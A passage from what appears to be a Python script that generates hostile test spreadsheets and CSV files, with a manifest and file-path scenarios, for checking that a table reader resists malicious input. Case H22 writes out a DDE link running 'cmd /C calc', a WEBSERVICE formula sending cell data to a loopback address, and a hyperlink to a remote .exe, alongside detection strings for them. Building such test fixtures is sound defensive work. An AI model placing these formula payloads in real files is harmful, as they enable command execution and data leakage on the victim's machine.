    "An unclosed quote makes the rest of the file (10 MB) one field.",
    seconds=10,
    memory_mb=512,
)
def _():
    head = "".join(";".join(map(str, r)) + "\r\n" for r in TABLE).encode("utf-8")
    return head + b'"' + b"abcdefghi\n" * 1_000_000


@case(
    "H22",
    "dde_e_webservice.xlsx",
    "hostile",
    "read",
    "DDE link part, WEBSERVICE and HYPERLINK formulas, external hyperlink to a share.",
    rows=ROWS,
    acceptable=["read-with-warning"],
    outputs={
        "forbid_zip_members": ["externallink"],
        "forbid_text": ["ddeLink", "WEBSERVICE(", "ddeService"],
        "forbid_rels": ["file:", "\\\\", "http://127.0.0.1"],
    },
)
def _():
    g = [list(r) for r in TABLE]
    g[1].append(Raw('<c r="{r}" t="str"><f>WEBSERVICE("http://127.0.0.1:9/"&amp;B2)</f><v>x</v></c>'))
    g[2].append(Raw('<c r="{r}" t="str"><f>[1]!\'!A1\'</f><v>x</v></c>'))
    g[3].append(Raw('<c r="{r}" t="str"><f>HYPERLINK("file://127.0.0.1/s/x.exe","abrir")</f><v>abrir</v></c>'))
    p = simple_parts(
        g,
        after_sheets='<externalReferences><externalReference r:id="rIdX"/></externalReferences>',
        after='<hyperlinks><hyperlink ref="A2" r:id="rIdH"/></hyperlinks>',
        rel_extra=f'<Relationship Id="rIdX" Type="{REL}/externalLink" Target="externalLinks/externalLink1.xml"/>',
        ct_extra='<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType='
        '"application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/>',
    )
    p["xl/externalLinks/externalLink1.xml"] = (
        XML + f'<externalLink xmlns="{MAIN}"><ddeLink ddeService="cmd" ddeTopic="/C calc">'
        '<ddeItems><ddeItem name="A1" advise="1"/></ddeItems></ddeLink></externalLink>'
    ).encode()
    p["xl/worksheets/_rels/sheet1.xml.rels"] = rels(
        [], f'<Relationship Id="rIdH" Type="{REL}/hyperlink" Target="file://127.0.0.1/s/x.exe" TargetMode="External"/>'
    )
    return zip_parts(p)


NUMS = ["9" * 5000, "1e999", "-1e999", "NaN", "0x1F"]


@case(
    "H23",
    "numeros_extremos.xlsx",
    "hostile",
    "read-with-warning",
    "Totals given as 5,000 digits, overflowing floats, NaN and hex text.",
    acceptable=["read", "error"],
    tags=["domain-findings"],
    not_clean=True,
)
def _():
    g = [list(r) for r in TABLE]
    g[1][1] = NUMS[0]
    g[2][1] = Raw('<c r="{r}"><v>1e999</v></c>')
    g[3][1] = Raw('<c r="{r}"><v>-1e999</v></c>')
    g[4][1] = Raw('<c r="{r}"><v>NaN</v></c>')
    g[5][1] = "0x1F"
    return zip_parts(simple_parts(g))


SCENARIOS = [
    {
        "id": "S01",
        "kind": "output-exists",
        "description": "The output path already holds another file: it stays as it was unless the user "
        "asked to overwrite.",
        "expected": ["error", "other-name"],
    },
    {
        "id": "S02",
        "kind": "output-symlink-to-input",
        "description": "The output path is a symbolic link to the input.",
        "expected": ["error", "replaced"],
    },
    {
        "id": "S03",
        "kind": "output-symlink-to-other",
        "description": "The output path is a symbolic link to an unrelated file, which must not change.",
        "expected": ["error", "replaced"],
    },
    {
        "id": "S04",
        "kind": "output-is-input",
        "description": "Output and input are the same path.",
        "expected": ["error"],
    },
    {
        "id": "S05",
        "kind": "output-dir-missing",
        "description": "The output folder does not exist.",
        "expected": ["error", "created"],
    },
    {
        "id": "S06",
        "kind": "output-is-directory",
        "description": "The output path is a folder.",
        "expected": ["error", "created"],
    },
    {"id": "S07", "kind": "input-read-only", "description": "The input has mode 0444.", "expected": ["read"]},
    {"id": "S08", "kind": "input-missing", "description": "The input does not exist.", "expected": ["error"]},
    {"id": "S09", "kind": "input-is-directory", "description": "The input is a folder.", "expected": ["error"]},
    {
        "id": "S10",
        "kind": "stdout-ascii",
        "description": "Standard output cannot represent accents (PYTHONIOENCODING=ascii).",
        "expected": ["read"],
    },
]


# -------------------------------------------------------------------- main --


def build(out: Path, only: set[str] | None = None) -> dict:
    ids = [c["id"] for c in CASES]
    assert len(ids) == len(set(ids)), "ids must be unique"
    files = []
    for c in CASES:
        if only and c["id"] not in only:
            continue
        data = c["_fn"]()
        target = out / c["file"]
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(data)
        entry = {k: v for k, v in c.items() if not k.startswith("_")}
        entry["size"] = len(data)
        entry["sha256"] = hashlib.sha256(data).hexdigest()
        files.append(entry)
    manifest = {
        "format": FORMAT,
        "generator": GENERATOR,
        "outcomes": {
            "read": "exit code for a usable file; the table is understood",
            "read-with-warning": "as read, plus at least one warning about the file",
            "error": "exit code for unusable input and one clear message",
        },
        "files": files,
        "scenarios": SCENARIOS,
    }
    (out / "manifest.json").write_text(json.dumps(manifest, ensure_ascii=True, indent=1) + "\n", encoding="utf-8")
    return manifest


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--out", type=Path, help="folder to write (created if missing)")
    ap.add_argument("--only", help="comma-separated ids")
    ap.add_argument("--list", action="store_true", help="list the cases and stop")
    args = ap.parse_args(argv)
    if args.list:
        for c in CASES:
            print(f"{c['id']:4} {c['expected']:18} {c['file']}: {c['description']}")
        return 0
    if args.out is None:
        ap.error("--out is required")
    args.out.mkdir(parents=True, exist_ok=True)
    only = set(args.only.split(",")) if args.only else None
    m = build(args.out, only)
    total = sum(f["size"] for f in m["files"])
    print(f"{len(m['files'])} files, {total / 1e6:.1f} MB, {len(m['scenarios'])} scenarios in {args.out}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
